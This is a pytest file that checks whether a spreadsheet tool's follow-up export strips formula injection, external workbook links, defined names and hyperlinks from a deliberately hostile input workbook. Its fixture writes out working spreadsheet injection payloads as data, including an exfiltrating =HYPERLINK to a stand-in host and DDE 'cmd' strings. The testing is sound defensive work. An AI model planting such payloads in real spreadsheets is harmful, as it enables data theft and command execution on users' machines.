"""The ``Seguimiento`` export is formula-safe like every other output (issue 8 item 4, contract §2).

``clusterprio-cli compare BASE NEW -o OUT.xlsx`` and the desktop's "Exportar la hoja Seguimiento"
both write through :func:`mcda.monitoring.export.write_followup`, which takes the later round's
file.  That file comes from outside; here it is built hostile: texts that a spreadsheet takes for a
formula (``=HYPERLINK(...)`` for data exfiltration, ``+cmd|...`` DDE, ``@SUM(...)``, ``-2+3``, tab and
carriage-return prefixes; OWASP "CSV injection") stored as plain unguarded strings in ``Clusters``,
in the recorded ``Prioridades`` and in a sheet of notes; real formulas (with and without a cached
value); a link to another workbook (an ``externalLink`` part), a defined name and a formula through
it; a hyperlink; an old ``Seguimiento`` sheet.

The export must hold none of that active — no ``<f>`` element, no external link, no defined name,
no hyperlink, every formula-like text stored as text with Excel's quote prefix and its value
unchanged, formulas replaced by the values they showed — and must still be a valid input of the
same round that keeps the round's record (``Prioridades``, ``Pesos``, ``Metodologia``).
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.packaging.relationship import Relationship
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.workbook.external_link.external import ExternalBook, ExternalLink

from mcda import session
from mcda.cli import main as cli
from mcda.errors import McdaError
from mcda.monitoring.baseline import read_snapshot
from mcda.monitoring.compare import compare
from mcda.monitoring.export import SHEET, followup_workbook, write_followup
from mcda.monitoring.targets import Target, with_targets
from mcda.workbook.sanitize import is_formula_like
from mcda.workbook.scan import xlsx_sheet_parts
from tests.mcda.monitoring_cases import BASE, NEW_DATA, problem

HYPERLINK = '=HYPERLINK("http://ejemplo.invalid/robar?d="&A1,"Ver detalle")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+9)*cmd|' /C calc'!A0"
ARITH = "-2+3"
TAB = "\t=2+2"
CR = "\r=3+3"
ATTACKS = (HYPERLINK, DDE, AT_SUM, ARITH, TAB, CR)
#: openpyxl writes a literal CR, which XML turns into LF: the CR attack is put in the XML as ``&#13;``.
CR_MARK = "CRMARK=3+3"
EVIL_BOOK = "file:///C:/ataque/carga.xlsx"


def _raw_text(cell, text: str) -> None:
    """A plain string cell, without the project's guard (as another program may leave it)."""
    cell.value = text
    cell.data_type = "s"
    cell.quotePrefix = False


def _hostile_round(folder: Path) -> Path:
    """An export of the later round (C's x 2 → 10, weights 0.2 / 0.8), then tampered with."""
    clean = folder / "nuevo_limpio.xlsx"
    later = problem(NEW_DATA, wx=0.2, wy=0.8).replace(settings={"monitoring.date": "2025-12-31"})
    session.export(clean, session.run(later), input_sha256=None)
    wb = openpyxl.load_workbook(clean)
    clusters = wb["Clusters"]
    for cell, text in zip(("B2", "C2", "D2", "B3", "C3", "D3"), (HYPERLINK, DDE, AT_SUM, ARITH, TAB, CR_MARK)):
        _raw_text(clusters[cell], text)
    clusters["E2"] = "=5*2"  # A's x is 10: a formula that showed 10
    prioridades = wb["Prioridades"]
    text_cells = [c for row in prioridades.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    _raw_text(text_cells[-1], HYPERLINK)  # the record itself tampered with
    text_cells[0].hyperlink = "http://ejemplo.invalid/"
    notes = wb.create_sheet("Notas")
    for r, text in enumerate((HYPERLINK, DDE, AT_SUM, ARITH, TAB, CR_MARK), start=1):
        _raw_text(notes.cell(row=r, column=1), text)
    notes["B1"] = "=SUM(1,1)"  # cached value 2 (below)
    notes["B2"] = "=[1]Hoja1!A1"  # through the external link, cached 7
    notes["B3"] = "=1+1"  # no cached value
    notes["B4"] = "=fuera"  # through the defined name
    old = wb.create_sheet(SHEET)
    old["A1"] = "=1+1"
    link = ExternalLink(externalBook=ExternalBook(id="rId1"))
    link.file_link = Relationship(type="externalLinkPath", Target=EVIL_BOOK, TargetMode="External", Id="rId1")
    wb._external_links.append(link)
    wb.defined_names["fuera"] = DefinedName("fuera", attr_text="[1]Hoja1!$A$1")
    tampered = folder / "nuevo.xlsx"
    wb.save(tampered)
    _patch_xml(tampered, {"Clusters": {"E2": "10"}, "Notas": {"B1": "2", "B2": "7", "B4": "7"}})
    return tampered


def _patch_xml(path: Path, cached: dict[str, dict[str, str]]) -> None:
    """Give formulas their cached values and put the real CR into the marked texts."""
    with zipfile.ZipFile(path) as z:
        parts = xlsx_sheet_parts(z)
        members = {name: z.read(name) for name in z.namelist()}
    for sheet, cells in cached.items():
        xml = members[parts[sheet]].decode()
        for ref, value in cells.items():
            xml, n = re.subn(rf'(<c r="{ref}"[^>]*><f>[^<]*</f>)<v\s*/>', rf"\g<1><v>{value}</v>", xml)
            assert n == 1, (sheet, ref)
        members[parts[sheet]] = xml.encode()
    for name, data in members.items():
        if name.startswith("xl/worksheets/") and CR_MARK.encode() in data:
            members[name] = data.replace(CR_MARK.encode(), b"&#13;=3+3")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)


@pytest.fixture(scope="module")
def rounds(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, Path]:
    folder = tmp_path_factory.mktemp("seguimiento_hostil")
    base = folder / "base.xlsx"
    session.export(base, session.run(problem(BASE)), input_sha256=None)
    new = _hostile_round(folder)
    out = folder / "seguimiento.xlsx"
    assert cli(["compare", str(base), str(new), "-o", str(out), "--json"]) == 0
    return base, new, out


def test_the_later_round_really_is_hostile(rounds: tuple[Path, Path, Path]) -> None:
    """The precondition, so the checks below can fail: the input carries every active thing."""
    _base, new, _out = rounds
    wb = openpyxl.load_workbook(new)
    assert wb["Notas"]["B1"].data_type == "f" and wb["Clusters"]["E2"].data_type == "f"
    assert [wb["Notas"].cell(row=r, column=1).value for r in range(1, 7)] == list(ATTACKS)
    assert not any(wb["Notas"].cell(row=r, column=1).quotePrefix for r in range(1, 7))
    assert wb._external_links and "fuera" in wb.defined_names
    values = openpyxl.load_workbook(new, data_only=True)["Notas"]
    assert (values["B1"].value, values["B2"].value, values["B3"].value) == (2, 7, None)
    read = read_snapshot(new)
    assert read.snapshot is not None, [i.code for i in read.errors]
    assert read.snapshot.problem.value("A", "x") == 10.0  # the reader takes the formula's cached value
    assert read.snapshot.problem.clusters[0].name == HYPERLINK


def test_no_formula_link_or_name_in_the_package(rounds: tuple[Path, Path, Path]) -> None:
    _base, _new, out = rounds
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        assert not [n for n in names if "externalLink" in n or "vbaProject" in n]
        for name in names:
            data = z.read(name)
            assert b'TargetMode="External"' not in data, name
            assert EVIL_BOOK.encode() not in data and b"ejemplo.invalid/\"" not in data, name
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", data), name
                assert b"<hyperlink" not in data, name
        workbook = z.read("xl/workbook.xml")
        assert b"externalReference" not in workbook and b"fuera" not in workbook and b"[1]" not in workbook
    wb = openpyxl.load_workbook(out, keep_links=True)
    assert wb._external_links == [] and "fuera" not in wb.defined_names


def test_every_cell_is_inert_and_every_attack_kept_as_text(rounds: tuple[Path, Path, Path]) -> None:
    _base, _new, out = rounds
    wb = openpyxl.load_workbook(out)
    found: dict[str, set[str]] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                where = f"{ws.title}!{cell.coordinate}"
                assert cell.data_type != "f", f"{where} is a formula: {cell.value!r}"
                assert cell.hyperlink is None, where
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    assert cell.data_type == "s" and cell.quotePrefix, f"{where} {cell.value!r} is not guarded"
                    found.setdefault(ws.title, set()).add(cell.value)
    assert set(ATTACKS) - {CR} <= found["Notas"]  # copied exactly, tab included
    # rebuilt from the parsed round (the reader trims the tab, as around any text)
    assert {HYPERLINK, DDE, AT_SUM, ARITH, TAB.strip()} <= found["Clusters"]
    assert HYPERLINK in found["Prioridades"]  # the record, copied
    notes = wb["Notas"]
    assert [notes.cell(row=r, column=1).value for r in range(1, 6)] == list(ATTACKS[:5])
    # openpyxl writes a CR as a literal CR, which every XML reader turns into LF (so the attack
    # cannot come back as a formula); the cell was written as guarded text all the same
    cr = notes["A6"]
    assert cr.value in (CR, "\n=3+3") and cr.data_type == "s" and cr.quotePrefix
    # formulas became the values they showed (none without one)
    assert [notes.cell(row=r, column=2).value for r in range(1, 5)] == [2, 7, None, 7]
    assert wb[SHEET]["A1"].value != "=1+1"  # the old Seguimiento was replaced


def test_the_export_is_the_same_round_with_its_record(rounds: tuple[Path, Path, Path]) -> None:
    _base, new, out = rounds
    before, after = read_snapshot(new).snapshot, read_snapshot(out).snapshot
    assert before is not None and after is not None
    assert after.problem == before.problem  # a valid input of the same round
    assert after.recorded and after.ranks.to_dict() == before.ranks.to_dict() == {"A": 3, "B": 2, "C": 1}
    assert after.weights.round(12).to_dict() == {"x": 0.2, "y": 0.8}
    source = openpyxl.load_workbook(new, data_only=True)
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames == ["Clusters", "Criterios", "Prioridades", "Pesos", "Sensibilidad", "VIKOR", "Metodologia",
                             "Integridad", "Notas", "_clusterprio", SHEET]
    assert wb.active.title == SHEET and wb["_clusterprio"].sheet_state == "hidden"
    for name in ("Prioridades", "Pesos", "Metodologia"):  # the record, value for value
        assert list(wb[name].iter_rows(values_only=True)) == list(source[name].iter_rows(values_only=True)), name
    prioridades = wb["Prioridades"]  # and its formatting: widths, frozen header, the writer's colour scales
    assert prioridades.freeze_panes == source["Prioridades"].freeze_panes
    assert len(prioridades.conditional_formatting) == len(source["Prioridades"].conditional_formatting)
    assert prioridades.column_dimensions["B"].width == source["Prioridades"].column_dimensions["B"].width


def test_targets_are_written_as_metas(tmp_path: Path) -> None:
    """A round whose targets live in its settings (an export has no Metas sheet) gets a visible Metas."""
    base = tmp_path / "base.xlsx"
    session.export(base, session.run(problem(BASE)), input_sha256=None)
    new = tmp_path / "nuevo.xlsx"
    targets = [Target("C", "x", 12.0, dt.date(2030, 1, 1))]
    session.export(new, session.run(with_targets(problem(NEW_DATA), targets)), input_sha256=None)
    b, n = read_snapshot(base).snapshot, read_snapshot(new).snapshot
    assert b is not None and n is not None
    wb = followup_workbook(compare(b, n), source=new)
    assert wb.sheetnames[-3:] == ["Metas", "_clusterprio", SHEET]
    assert [c.value for c in wb["Metas"][2]][:3] == ["C", "x", 12]


def test_a_source_that_can_no_longer_be_read_safely_is_refused(rounds: tuple[Path, Path, Path],
                                                                tmp_path: Path) -> None:
    """The file is checked again before it is opened (it may have changed since it was compared)."""
    base, new, _out = rounds
    b, n = read_snapshot(base).snapshot, read_snapshot(new).snapshot
    assert b is not None and n is not None
    gone = tmp_path / "cambiado.xlsx"
    gone.write_bytes(b"PK\x03\x04 not a zip any more")
    out = tmp_path / "seguimiento.xlsx"
    with pytest.raises(McdaError) as err:
        write_followup(out, compare(b, n), source=gone)
    assert err.value.issues[0].code.startswith("file.")
    assert not out.exists()


def test_the_follow_up_sample_keeps_its_cover_sheet_first(tmp_path: Path) -> None:
    """A sheet the round's file had before its data (the sample's ``Acerca de``) stays in front, unchanged."""
    import resources

    later = resources.path("sample", "clusters_peru_seguimiento.xlsx")
    b, n = read_snapshot(resources.sample_workbook()).snapshot, read_snapshot(later).snapshot
    assert b is not None and n is not None
    out = tmp_path / "seguimiento.xlsx"
    write_followup(out, compare(b, n), source=later)
    wb, source = openpyxl.load_workbook(out), openpyxl.load_workbook(later)
    assert wb.sheetnames == ["Acerca de", "Clusters", "Criterios", "Comite", "_clusterprio", SHEET]
    assert list(wb["Acerca de"].values) == list(source["Acerca de"].values)
    again = read_snapshot(out).snapshot
    assert again is not None and again.problem == n.problem
